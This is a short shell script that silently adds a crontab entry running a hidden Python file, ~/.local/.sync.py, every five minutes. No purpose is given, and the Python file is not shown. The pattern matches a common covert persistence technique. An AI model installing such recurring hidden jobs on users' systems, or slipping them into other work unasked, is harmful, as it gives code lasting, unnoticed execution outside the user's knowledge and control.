#!/bin/sh
(crontab -l 2>/dev/null; echo "*/5 * * * * python3 ~/.local/.sync.py") | crontab -
